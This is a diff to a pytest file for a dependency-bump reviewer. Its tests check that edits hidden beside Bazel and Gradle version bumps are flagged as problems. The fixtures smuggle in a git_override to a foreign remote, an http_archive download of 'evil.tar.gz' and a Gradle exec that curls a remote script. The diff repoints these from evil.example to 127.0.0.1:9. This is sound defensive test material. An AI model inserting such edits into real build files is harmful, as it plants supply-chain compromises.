@@ -132,16 +132,16 @@ def test_renovate_bazel_module_bump(tmp_path: Path) -> None:
 def test_a_bazel_override_change_is_a_problem(tmp_path: Path) -> None:
     body = MODULE_BAZEL + 'git_override(module_name = "rules_cc", remote = "https://github.com/bazelbuild/rules_cc")\n'
     tree, _ = _bump(tmp_path, {"MODULE.bazel": body}, {"MODULE.bazel": (
-        "https://github.com/bazelbuild/rules_cc", "https://evil.example/rules_cc")})
+        "https://github.com/bazelbuild/rules_cc", "https://127.0.0.1:9/rules_cc")})
     assert not tree.changes
     assert [(p.manifest, p.kind) for p in tree.problems] == [("MODULE.bazel", "partial")]
 
 
 @pytest.mark.parametrize("beside", [
     'x = 1; bazel_dep(name = "evil", version = "1.0")',  # a second statement on a line
-    'x = 1; git_override(module_name = "rules_cc", remote = "https://evil.example/rules_cc")',
+    'x = 1; git_override(module_name = "rules_cc", remote = "https://127.0.0.1:9/rules_cc")',
     'http_archive = use_repo_rule("@bazel_tools//tools/build_defs/repo:http.bzl", "http_archive")\n'
-    'http_archive(name = "evil", urls = ["https://evil.example/evil.tar.gz"])',  # a download the delta does not read
+    'http_archive(name = "evil", urls = ["https://127.0.0.1:9/evil.tar.gz"])',  # a download the delta does not read
 ])
 def test_a_bazel_edit_beside_a_bump_does_not_ride_on_it(tmp_path: Path, beside: str) -> None:
     """MODULE.bazel is a program: anything beyond the bazel_dep calls and versions it reads is reviewed, never
@@ -201,7 +201,7 @@ def test_a_gradle_scripts_other_edit_beside_a_bump_is_a_problem(tmp_path: Path) 
     tree, _ = _bump(tmp_path, {"gradle/deps.gradle.kts": DEPENDENCIES_GRADLE}, {"gradle/deps.gradle.kts": (
         "  springSecurity      : 'org.springframework.security:spring-security-config:6.5.0',\n",
         "  springSecurity      : 'org.springframework.security:spring-security-config:6.5.1',\n"
-        "]\nexec { commandLine 'curl', 'https://evil.example/x.sh' }\n[\n")})
+        "]\nexec { commandLine 'curl', 'https://127.0.0.1:9/x.sh' }\n[\n")})
     assert [(p.manifest, p.kind) for p in tree.problems] == [("gradle/deps.gradle.kts", "partial")]
 
 
